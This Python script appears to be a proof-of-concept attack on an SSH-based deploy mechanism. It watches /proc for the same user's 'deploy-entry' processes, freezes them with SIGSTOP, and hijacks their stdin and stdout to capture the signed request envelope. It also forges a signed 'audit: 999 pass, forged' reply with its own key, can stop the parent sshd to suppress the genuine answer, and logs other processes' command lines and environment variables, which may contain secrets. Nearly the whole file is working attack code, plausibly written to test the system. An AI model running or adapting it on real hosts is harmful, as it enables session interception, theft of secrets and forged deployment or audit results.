"""A process of the primary user's beside the session that brings an envelope: it changes no file, and needs nothing of root's.

/proc shows it that session's first processes, a shell and deploy-entry, which are the user's own until they become sudo. It halts them, and has
their stdin and stdout. What it reads it passes on, so that all looks well.

argv: a folder for what it keeps, and what it does: read; or answer, before the host's own answer (before) or instead of it (instead)
"""

import hashlib
import os
import re
import signal
import subprocess
import sys
import time

FOLDER, MODE = sys.argv[1:]
SECONDS = 60


def keep(name, data):
    with open(f"{FOLDER}/{name}", "ab") as file:
        file.write(data.replace(b"\0", b"\n") + b"\n")


def content(path):
    with open(path, "rb") as file:
        return file.read()


def wait(is_over):
    end = time.monotonic() + SECONDS
    while not is_over() and time.monotonic() < end:
        time.sleep(0.002)


def read_all(pipe):
    """What comes until nobody can write any more."""
    parts = []

    def is_over():
        try:
            parts.append(os.read(pipe, 65536))
            return parts[-1] == b""
        except BlockingIOError:
            return False

    wait(is_over)
    return b"".join(parts)


def write_all(pipe, data):
    while data:
        data = data[os.write(pipe, data) :]


def is_gone(pid):
    try:
        return content(f"/proc/{pid}/stat").rpartition(b") ")[2][:1] == b"Z"
    except OSError:
        return True


def answer(envelope):
    """To just this envelope, in the host's form, and signed: with a key of his own."""
    signed = envelope[: envelope.rfind(b"-----BEGIN SSH SIGNATURE-----")]
    text = b"audit: 999 pass, forged\n"
    request = hashlib.sha256(signed).hexdigest().encode()
    body = b"monoclaw-answer 1\nrequest %s\noutcome done\nlength %d\n\n%s" % (request, len(text), text)
    sign = ["ssh-keygen", "-q", "-Y", "sign", "-n", "monoclaw-answer", "-f", f"{FOLDER}/key"]
    return body + subprocess.run(sign, input=body, stdout=subprocess.PIPE, check=True).stdout


def take(pid, parent):
    """A halted process of the session's, and the sshd that it belongs to."""
    comes = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
    envelope = read_all(comes)
    keep("kept", envelope)
    passed_on = os.open(f"/proc/{pid}/fd/0", os.O_WRONLY)
    os.close(comes)
    if MODE != "read":
        out = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
        own = os.open(f"/proc/{pid}/fd/1", os.O_RDONLY | os.O_NONBLOCK)
        forged = answer(envelope)
        keep("forged", str(pid).encode())
    if MODE == "before":
        write_all(out, forged)
    if MODE == "instead":
        os.kill(parent, signal.SIGSTOP)  # so that nobody else takes the host's answer
    os.kill(pid, signal.SIGCONT)
    write_all(passed_on, envelope)
    os.close(passed_on)
    if MODE == "instead":
        wait(lambda: is_gone(pid))
        try:
            keep("kept", os.read(own, 1048576))
        except BlockingIOError:
            pass  # the host refused, and answered nothing
        write_all(out, forged)


def take_and_let_go(pid):
    parent = pid
    try:
        parent = int(re.search(rb"^PPid:\s(\d+)$", content(f"/proc/{pid}/status"), re.MULTILINE)[1])
        take(pid, parent)
    finally:
        for halted in {pid, parent}:
            try:
                os.kill(halted, signal.SIGCONT)
            except OSError:
                pass  # it has ended, or is sudo


def main():
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{FOLDER}/key"], check=True)
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # nobody waits for the processes below
    before, taken, seen = set(os.listdir("/proc")), set(), set()
    keep("ready", b"")
    while True:
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in before or pid in taken:
                continue
            try:
                is_own = os.stat(f"/proc/{pid}").st_uid == os.getuid()
                line = content(f"/proc/{pid}/cmdline")
                if is_own and b"deploy-entry" in line:
                    os.kill(int(pid), signal.SIGSTOP)
                    taken.add(pid)
                    if os.fork() == 0:
                        signal.signal(signal.SIGCHLD, signal.SIG_DFL)
                        take_and_let_go(int(pid))
                        os._exit(0)
                # Arguments are everybody's to read.
                for each in [line, content(f"/proc/{pid}/environ")] if is_own else [line]:
                    if each not in seen:
                        seen.add(each)
                        keep("kept", each)
            except OSError:
                pass  # it has ended, or is another user's by now
        time.sleep(0.0002)


main()
